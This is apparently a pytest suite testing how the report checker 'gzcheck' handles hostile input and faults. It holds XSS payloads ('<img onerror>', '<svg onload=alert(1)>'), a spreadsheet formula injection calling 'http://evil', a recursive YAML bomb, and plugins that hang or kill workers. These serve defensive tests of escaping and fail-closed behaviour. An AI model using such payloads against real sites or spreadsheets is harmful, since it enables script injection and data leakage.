"""Hostile input and faults (issue 11): no false pass, no injection, no hang, no lost results.
Each test names the numbered point it guards."""

import csv
import json
import os
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from .summaries import summary_rows
from gzcheck.cli import main
from gzcheck.errors import EXIT_FAIL, EXIT_INTERNAL, EXIT_PASS, EXIT_UNREADABLE, EXIT_USAGE
from gzcheck.extraction.splitting import groups_of_five_hold, split_chunks
from gzcheck.testing import example_report

ROOT = Path(__file__).resolve().parent.parent


def failing_report() -> dict:
    report = example_report("report-2021.json")
    report["applications"]["total"]["results"]["total"] += 7  # a real T3-001
    return report


def write(path: Path, report) -> Path:
    path.write_text(json.dumps(report, ensure_ascii=False), encoding="utf-8")
    return path


def gzcheck(*args, stdin=None, timeout=120, cwd=None):
    return subprocess.run([sys.executable, "-m", "gzcheck", *map(str, args)], capture_output=True, text=True,
                          input=stdin, timeout=timeout, cwd=cwd)


def plugin(tmp_path: Path, body: str, name: str = "hostile_rule.py") -> Path:
    path = tmp_path / name
    path.write_text("from gzcheck import Rule, hookimpl\n\n" + body, encoding="utf-8")
    return path


# 1 -----------------------------------------------------------------------------------------------
def test_01_a_failing_report_fails_when_stdout_closes(tmp_path):
    path = write(tmp_path / "bad.json", failing_report())
    run = subprocess.run(f"{sys.executable} -m gzcheck check {path} | head -c 1 >/dev/null; echo ${{PIPESTATUS[0]}}",
                         shell=True, executable="/bin/bash", capture_output=True, text=True, timeout=60)
    assert run.stdout.strip() == str(EXIT_FAIL), run.stderr


# 2 -----------------------------------------------------------------------------------------------
def test_02_a_schema_finding_cannot_be_waived(tmp_path, capsys):
    report = failing_report()
    report["title"] = 12345
    path = write(tmp_path / "r.json", report)
    waivers = tmp_path / "waivers.yaml"
    waivers.write_text("- {code: GZ-002, report: r.json, pointer: /title, reason: x, reviewed_by: y, "
                       "reviewed_on: 2026-01-01, expires: 2099-01-01}\n", encoding="utf-8")
    assert main(["check", str(path), "--waivers", str(waivers)]) == EXIT_USAGE
    assert "不能豁免" in capsys.readouterr().err


# 3 -----------------------------------------------------------------------------------------------
def test_03_a_rule_that_edits_the_report_cannot_change_the_others(tmp_path):
    rule = plugin(tmp_path, '''
class Zeroes(Rule):
    code = "EVIL-001"
    def check(self, report, ctx):
        for column in report["applications"].values():
            for key in column:
                if not isinstance(column[key], dict):
                    column[key] = 0
        return []

@hookimpl
def gzcheck_rules():
    return [Zeroes]
''')
    path = write(tmp_path / "bad.json", failing_report())
    assert main(["check", str(path), "--plugin", str(rule)]) == EXIT_FAIL


# 4 -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("raise_", ["raise SystemExit(0)", "raise KeyboardInterrupt", "raise GeneratorExit",
                                    "yield ctx.finding(severity='critical')",
                                    "from gzcheck import Finding\n        yield Finding(code=self.code, rule='x', severity='critical', message='m')"])
def test_04_whatever_a_rule_raises_is_that_reports_error(tmp_path, raise_):
    rule = plugin(tmp_path, f'''
class Bad(Rule):
    code = "EVIL-002"
    def check(self, report, ctx):
        {raise_}
        yield from ()

@hookimpl
def gzcheck_rules():
    return [Bad]
''')
    path = write(tmp_path / "ok.json", example_report("report-2021.json"))
    run = gzcheck("check", path, "--plugin", rule, "--format", "json")
    assert run.returncode == EXIT_INTERNAL, run.stderr
    [report] = json.loads(run.stdout)["reports"]
    assert report["status"] == "error" and any(f["code"] == "EVIL-002" for f in report["findings"])


def test_04_sys_exit_at_plugin_import_fails_closed(tmp_path):
    rule = plugin(tmp_path, "import sys\nsys.exit(0)\n")
    path = write(tmp_path / "ok.json", example_report("report-2021.json"))
    run = gzcheck("check", path, "--plugin", rule)
    assert run.returncode == EXIT_INTERNAL and "SystemExit" in run.stderr


@pytest.mark.slow
def test_04_a_rule_that_never_returns_is_stopped_by_the_time_budget(tmp_path):
    rule = plugin(tmp_path, '''
class Forever(Rule):
    code = "EVIL-003"
    def check(self, report, ctx):
        while True:
            pass
        yield

@hookimpl
def gzcheck_rules():
    return [Forever]
''')
    path = write(tmp_path / "ok.json", example_report("report-2021.json"))
    start = time.monotonic()
    run = gzcheck("check", path, "--plugin", rule, "--timeout", "2")
    assert run.returncode == EXIT_INTERNAL and time.monotonic() - start < 30
    assert "时间限制" in run.stdout


# 5 -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("field,value", [("agency", 123), ("agency", ["a"]), ("format_version", ["2021"]), ("report_year", "二〇二三")])
def test_05_one_bad_report_is_one_error_row(tmp_path, field, value, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    report = example_report("report-2021.json")
    report[field] = value
    write(folder / "bad.json", report)
    write(folder / "good.json", example_report("report-2021.json"))
    out = tmp_path / "out"
    main(["batch", str(folder), "--jobs", "1", "--output", str(out)])
    with open(out / "summary.csv", encoding="utf-8-sig") as handle:
        rows = {Path(r["input"]).name: r for r in summary_rows(handle)}
    assert set(rows) == {"bad.json", "good.json"} and rows["good.json"]["status"] == "pass"
    assert (out / "report.html").read_text(encoding="utf-8").rstrip().endswith("</html>")
    assert sorted(p.name for p in out.iterdir()) == [".gzcheck-batch", "audit.xlsx", "report.html", "summary.csv"]


# 6 -----------------------------------------------------------------------------------------------
def test_06_an_unreadable_folder_is_reported(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "in"
    (folder / "locked").mkdir(parents=True)
    write(folder / "locked" / "bad.json", failing_report())
    write(folder / "ok.json", example_report("report-2021.json"))
    real_scandir = os.scandir

    def scandir(path="."):  # what chmod 000 does to everyone but root
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert main(["batch", str(folder), "--jobs", "1", "--output", str(tmp_path / "out")]) == EXIT_UNREADABLE
    with open(tmp_path / "out" / "summary.csv", encoding="utf-8-sig") as handle:
        rows = {Path(r["input"]).name: (r["status"], r["reason"]) for r in summary_rows(handle)}
    assert rows["locked"][0] == "error" and "无法读取文件夹" in rows["locked"][1]


def test_06_dangling_links_pipes_and_empty_folders_are_not_silence(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    write(folder / "ok.json", example_report("report-2021.json"))
    os.symlink(folder / "gone.json", folder / "dangling.json")
    os.mkfifo(folder / "pipe.json")
    assert main(["batch", str(folder), "--output", str(tmp_path / "out")]) == EXIT_UNREADABLE
    with open(tmp_path / "out" / "summary.csv", encoding="utf-8-sig") as handle:
        status = {Path(r["input"]).name: r["status"] for r in summary_rows(handle)}
    assert status == {"dangling.json": "error", "ok.json": "pass", "pipe.json": "error"}
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["batch", str(empty), "--output", str(tmp_path / "out2")]) == EXIT_UNREADABLE


# 7 -----------------------------------------------------------------------------------------------
HOSTILE = '<img src=x onerror="document.body.setAttribute(\'data-pwned\',1)"><script>document.body.setAttribute("data-pwned",2)</script>'


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    for i, field in enumerate(("report_year", "agency", "title", "format_version")):
        report = example_report("report-2021.json")
        report[field] = HOSTILE
        write(folder / f"{i}.json", report)
    write(folder / '"><svg onload=alert(1)>.json', example_report("report-2021.json"))
    write(folder / "=HYPERLINK(\"http:x\";\"click\").json", example_report("report-2021.json"))
    report = example_report("report-2021.json")
    report["agency"] = '=HYPERLINK("http://evil"&A1,"click")'
    write(folder / "formula.json", report)
    out = folder.parent / (folder.name + "-out")
    main(["batch", str(folder), "--jobs", "2", "--output", str(out)])
    return out


def test_07_no_field_reaches_the_html_unescaped(hostile_batch):
    html = (hostile_batch / "report.html").read_text(encoding="utf-8")
    assert "<img" not in html and "<svg onload" not in html and html.count("<script>") == 1
    assert 'http-equiv="Content-Security-Policy"' in html and "default-src 'none'" in html


CHROMIUM = next((c for c in ("/usr/bin/chromium", "/usr/bin/chromium-browser") if os.path.exists(c)), None)


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium here: .ci/run installs Debian's chromium for this test")
@pytest.mark.browser
def test_07_a_browser_runs_nothing_from_the_reports(hostile_batch, tmp_path):
    page = (hostile_batch / "report.html").resolve().as_uri()
    dom = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
                          "--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page],
                         capture_output=True, text=True, timeout=120).stdout
    body = dom[dom.index("<body"):dom.index(">", dom.index("<body"))]
    assert 'data-ready="1"' in body and "data-pwned" not in body


# 8 -----------------------------------------------------------------------------------------------
def test_08_no_spreadsheet_formula_in_the_csv(hostile_batch):
    with open(hostile_batch / "summary.csv", encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


# 9 -----------------------------------------------------------------------------------------------
def test_09_a_number_json_cannot_hold_is_a_schema_error_and_output_stays_strict(tmp_path, capsys):
    text = json.dumps(example_report("report-2021.json")).replace('"new_received": 3', '"new_received": 1e400', 1)
    path = tmp_path / "inf.json"
    path.write_text(text, encoding="utf-8")
    for fmt in ("json", "sarif"):
        main(["check", str(path), "--format", fmt])
        out = capsys.readouterr().out
        json.loads(out, parse_constant=lambda c, fmt=fmt: pytest.fail(f"{fmt} output holds {c}"))
    main(["check", str(path), "--format", "json"])
    assert "GZ-002" in capsys.readouterr().out


# 10 ----------------------------------------------------------------------------------------------
HOSTILE_NAMES = ["a b.json", 'q"uote<x>.json', "100%.json", "line\nbreak.json", "ctl\x01\x1f.json", "汉字 报告.json"]


def test_10_every_output_format_stays_valid_with_hostile_names(tmp_path, capsys):
    import jsonschema

    from .conftest import shared_path

    paths = [str(write(tmp_path / name, failing_report())) for name in HOSTILE_NAMES]
    main(["check", *paths, "--format", "junit"])
    ET.fromstring(capsys.readouterr().out.encode("utf-8"))
    main(["check", *paths, "--format", "sarif"])
    sarif = json.loads(capsys.readouterr().out)
    schema = json.loads(shared_path("spec", "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
    validator = jsonschema.Draft7Validator(schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    assert list(validator.iter_errors(sarif)) == []
    broken = json.loads(json.dumps(sarif))
    broken["runs"][0]["results"][0]["level"] = "fatal"
    assert list(validator.iter_errors(broken)), "the SARIF schema check must be able to fail"
    for result in sarif["runs"][0]["results"]:
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert not any(c in uri for c in ' "<>\n\x01%') or "%" in uri and all(c not in uri for c in ' "<>\n\x01')
    main(["check", *paths, "--format", "github"])
    lines = capsys.readouterr().out.splitlines()
    assert all(line.startswith("::") for line in lines)


# 11 ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("digits", ["726417837351134812612116", "726417837351134812612116999", "7" * 32, "1234567890" * 6])
def test_11_glued_digit_search_is_bounded(digits):
    # the search visits at most MAX_STATES states a row, so it ends (bench/ measures how fast)
    split_chunks([digits, "20"], 15, groups_of_five_hold)
    split_chunks([digits], 7)


def test_11_the_real_pypdf_page_is_checked(capsys):
    from .conftest import shared_path

    page = shared_path("corpus", "reports", "009-huaian-2024-city.pdf.pypdf.txt")
    assert main(["check", str(page)]) in (EXIT_PASS, EXIT_FAIL)


# 12 ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "fifo"])
def test_12_devices_and_pipes_are_refused_not_read(tmp_path, device):
    if device == "fifo":
        device = str(tmp_path / "fifo")
        os.mkfifo(device)
    run = gzcheck("check", device, timeout=30)
    assert run.returncode == EXIT_UNREADABLE and "普通文件" in run.stdout


# 13 ----------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_13_ctrl_c_stops_a_batch_quickly(tmp_path):
    import signal

    folder = tmp_path / "in"
    folder.mkdir()
    slow = plugin(tmp_path, '''
import time

class Slow(Rule):
    code = "SLOW-001"
    def check(self, report, ctx):
        time.sleep(5)
        return []

@hookimpl
def gzcheck_rules():
    return [Slow]
''')
    for i in range(20):
        write(folder / f"{i}.json", example_report("report-2021.json"))
    out = tmp_path / "out"
    process = subprocess.Popen([sys.executable, "-m", "gzcheck", "batch", str(folder), "--jobs", "2", "--output", str(out),
                                "--plugin", str(slow)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(3)
    process.send_signal(signal.SIGINT)
    start = time.monotonic()
    _, err = process.communicate(timeout=30)
    assert time.monotonic() - start < 10 and process.returncode == 130 and "中断" in err
    assert not (out / "summary.csv").exists()


def test_13_a_killed_worker_is_that_files_error_and_the_batch_goes_on(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    killer = plugin(tmp_path, '''
import os, signal

class Killer(Rule):
    code = "KILL-001"
    def check(self, report, ctx):
        if report.get("agency") == "kill me":
            os.kill(os.getpid(), signal.SIGKILL)
        return []

@hookimpl
def gzcheck_rules():
    return [Killer]
''')
    for i in range(6):
        report = example_report("report-2021.json")
        report["agency"] = "kill me" if i == 2 else f"机关{i}"
        write(folder / f"{i}.json", report)
    out = tmp_path / "out"
    assert main(["batch", str(folder), "--jobs", "2", "--output", str(out), "--plugin", str(killer)]) == EXIT_UNREADABLE
    with open(out / "summary.csv", encoding="utf-8-sig") as handle:
        status = {Path(r["input"]).name: r["status"] for r in summary_rows(handle)}
    assert status == {f"{i}.json": ("error" if i == 2 else "pass") for i in range(6)}


# 14 ----------------------------------------------------------------------------------------------
def test_14_a_failed_batch_leaves_the_previous_results_whole(tmp_path, capsys, monkeypatch):
    import gzcheck.batch.outputs as outputs

    folder = tmp_path / "in"
    folder.mkdir()
    write(folder / "a.json", example_report("report-2021.json"))
    out = tmp_path / "out"
    assert main(["batch", str(folder), "--jobs", "1", "--output", str(out)]) == EXIT_PASS
    before = {name: (out / name).read_bytes() for name in ("summary.csv", "report.html")}
    write(folder / "b.json", failing_report())

    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs, "write_html", full_disk, raising=False)
    monkeypatch.setattr("gzcheck.report.audit_html.write_html", full_disk)
    assert main(["batch", str(folder), "--jobs", "1", "--output", str(out)]) == EXIT_INTERNAL
    assert "原有的结果没有改动" in capsys.readouterr().err
    assert {name: (out / name).read_bytes() for name in before} == before
    assert sorted(p.name for p in out.iterdir()) == [".gzcheck-batch", "audit.xlsx", "report.html", "summary.csv"]


# 15 ----------------------------------------------------------------------------------------------
def test_15_batch_never_writes_over_its_inputs_nor_reads_its_outputs(tmp_path, capsys):
    pages = tmp_path / "pages"
    pages.mkdir()
    (pages / "report.html").write_text("<html><body>一、总体情况</body></html>", encoding="utf-8")
    assert main(["batch", str(pages), "--output", str(pages)]) == EXIT_USAGE
    assert "一、总体情况" in (pages / "report.html").read_text(encoding="utf-8")
    folder = tmp_path / "reports"
    folder.mkdir()
    write(folder / "a.json", example_report("report-2021.json"))
    for _ in range(2):  # the default output folder lands inside the audited one: its files are never inputs
        run = gzcheck("batch", ".", "--jobs", "1", cwd=folder)
        assert run.returncode == EXIT_PASS, run.stdout + run.stderr
    with open(folder / "gzcheck-report" / "summary.csv", encoding="utf-8-sig") as handle:
        assert [r["input"] for r in summary_rows(handle)] == ["a.json"]


# 16 ----------------------------------------------------------------------------------------------
def test_16_batch_honours_waivers_for_year_over_year_findings(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    before, now = example_report("report-2021.json"), example_report("report-2021.json")
    before["report_year"], now["report_year"] = 2022, 2023
    for key in now["sections"]:
        now["sections"][key] = before["sections"][key]  # copied prose: XYR-003
    write(folder / "2022.json", before)
    write(folder / "2023.json", now)
    waivers = tmp_path / "w.yaml"
    waivers.write_text("- {code: XYR-003, report: in/2023.json, pointer: /sections, reason: 同一模板, reviewed_by: 王, "
                       "reviewed_on: 2026-01-01, expires: 2099-01-01}\n", encoding="utf-8")
    main(["check", str(folder / "2022.json"), str(folder / "2023.json"), "--waivers", str(waivers), "--format", "json"])
    checked = capsys.readouterr()
    assert "XYR-003" in checked.out and "没有匹配" not in checked.err
    main(["batch", str(folder), "--output", str(tmp_path / "out"), "--waivers", str(waivers)])
    assert "没有匹配" not in capsys.readouterr().err
    with open(tmp_path / "out" / "summary.csv", encoding="utf-8-sig") as handle:
        assert all("XYR-003" not in r["top_codes"] for r in summary_rows(handle))


# 17 ----------------------------------------------------------------------------------------------
def test_17_usage_and_unreadable_not_internal(tmp_path, capsys):
    yaml_bomb = tmp_path / "rec.yaml"
    yaml_bomb.write_text("agency: &a [*a]\n", encoding="utf-8")
    assert main(["check", str(yaml_bomb)]) == EXIT_UNREADABLE
    config = tmp_path / "gzcheck.yaml"
    config.write_text("options: {PUB-001: {deadlines: 5}}\n", encoding="utf-8")
    ok = write(tmp_path / "ok.json", example_report("report-2021.json"))
    assert main(["check", str(ok), "--config", str(config)]) == EXIT_USAGE
    assert main(["batch", str(ok), "--output", str(ok)]) == EXIT_USAGE
    assert main(["extract", str(ROOT / "README.md"), "-o", str(tmp_path)]) in (EXIT_USAGE, EXIT_UNREADABLE)
    surrogate = tmp_path / "s.json"
    surrogate.write_text('{"\\ud800": 1}', encoding="utf-8")
    capsys.readouterr()
    assert main(["check", str(surrogate), "--format", "json"]) == EXIT_UNREADABLE
    json.loads(capsys.readouterr().out)


# 18 ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name,text", [
    ("gzcheck.toml", "fail_on = \"warning\"\n"),
    ("pyproject.toml", "[tool.gzcheck.severity]\nTBL-002 = \"error\"\n"),
    ("pyproject.toml", "[tool]\ngzcheck = {fail_on = \"warning\"}\n"),
])
def test_18_config_files_are_never_ignored(tmp_path, name, text):
    (tmp_path / name).write_text(text, encoding="utf-8")
    report = example_report("report-2021.json")
    report["applications"]["natural_person"]["results"]["granted"] = None  # a blank cell: a TBL-002 warning
    report["applications"]["natural_person"]["results"]["total"] -= example_report("report-2021.json")["applications"]["natural_person"]["results"]["granted"]
    report["applications"]["total"]["results"]["granted"] -= example_report("report-2021.json")["applications"]["natural_person"]["results"]["granted"]
    write(tmp_path / "r.json", report)
    run = gzcheck("check", "r.json", cwd=tmp_path)
    assert run.returncode == EXIT_FAIL, run.stdout


def test_18_unknown_config_keys_are_an_error(tmp_path):
    (tmp_path / "gzcheck.toml").write_text("fail_onn = \"warning\"\n", encoding="utf-8")
    write(tmp_path / "r.json", example_report("report-2021.json"))
    assert gzcheck("check", "r.json", cwd=tmp_path).returncode == EXIT_USAGE


# 19 ----------------------------------------------------------------------------------------------
def test_19_years_duplicates_and_previous(tmp_path, capsys):
    old = example_report("report-2019.json")
    old["report_year"] = 2018
    assert main(["check", str(write(tmp_path / "2018.json", old))]) == EXIT_UNREADABLE
    future = example_report("report-2021.json")
    future["report_year"] = 2099
    assert main(["check", str(write(tmp_path / "2099.json", future))]) == EXIT_FAIL
    dup = tmp_path / "dup.json"
    dup.write_text('{"report_year": 2021, "report_year": 2022}', encoding="utf-8")
    assert main(["check", str(dup)]) == EXIT_UNREADABLE
    assert "report_year" in capsys.readouterr().out
    other = example_report("report-2021.json")
    other["agency"] = "另一个机关"
    other["report_year"] -= 1
    main(["check", str(write(tmp_path / "now.json", example_report("report-2021.json"))), "--previous", str(write(tmp_path / "o.json", other))])
    assert "不是本机关上一年度的报告" in capsys.readouterr().err


def test_a_rule_that_finds_without_end_lists_a_hundred_and_keeps_the_verdict():
    from gzcheck import Rule
    from gzcheck.engine.plugins import RuleInfo
    from gzcheck.engine.runner import MAX_LISTED, Engine
    from gzcheck.testing import example_report

    class Flood(Rule):
        code = "FLD-001"

        def check(self, report, ctx):
            for i in range(10_000):  # warnings first, the errors only after the listed ones
                yield ctx.finding(severity="warning" if i < 5_000 else "error", message=f"问题 {i}")

    result = Engine({"FLD-001": RuleInfo(Flood, "test")}).check(example_report("report-2021.json"))
    mine = [f for f in result.findings if f.code == "FLD-001"]
    assert len(mine) == MAX_LISTED + 1 and result.status == "fail"
    [summary] = [f for f in mine if f.details.get("not_listed")]
    assert summary.details["not_listed"] == 10_000 - MAX_LISTED and summary.severity == "error"
